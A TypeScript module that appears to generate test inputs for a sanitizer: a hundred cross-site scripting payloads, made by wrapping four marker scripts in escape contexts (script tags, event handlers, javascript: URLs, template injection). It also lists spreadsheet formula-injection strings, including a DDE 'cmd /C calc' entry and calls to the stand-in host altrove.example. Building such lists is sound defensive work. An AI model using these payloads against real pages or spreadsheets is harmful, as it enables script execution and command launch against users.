/** What somebody types into a field, or a clerk copies into a file, hoping that a page runs it. */

/** Each would leave a trace: a dialog, a mark on the page, its title, a call elsewhere. */
const SCRIPTS = ['alert(1)', 'ran=1', 'document.title=`ran`', 'fetch(`//altrove.example`)']

/** Every way out of where text may stand: an element, an attribute, a script, a style, a comment, a link, a template. */
const WAYS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'><script>${script}</script>`,
  (script) => `--></style></title></textarea><script>${script}</script>`,
  (script) => `<ScRiPt/x>${script}</sCrIpT>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `" onmouseover=${script} autofocus onfocus=${script} x="`,
  (script) => `' style=animation-name:x onanimationstart=${script} x='`,
  (script) => `<svg/onload=${script}>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<iframe src="javascript:${script}">`,
  (script) => `<object data="javascript:${script}">`,
  (script) => `<math><mi//xlink:href="data:x,<script>${script}</script>">`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `javascript:${script}`,
  (script) => `<base href=//altrove.example/><script src=x></script>${script}`,
  (script) => `<link rel=stylesheet href=//altrove.example/${script}>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `\u2028${script}//</script>\\u003cscript\\u003e${script}`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => '${' + script + '}`;' + script,
]

/** A hundred. */
export const SCRIPT_PAYLOADS: readonly string[] = WAYS.flatMap((way) => SCRIPTS.map(way))

/** What a spreadsheet would run. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://altrove.example")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'a";=1+1;"',
  'a\n=1+1',
]
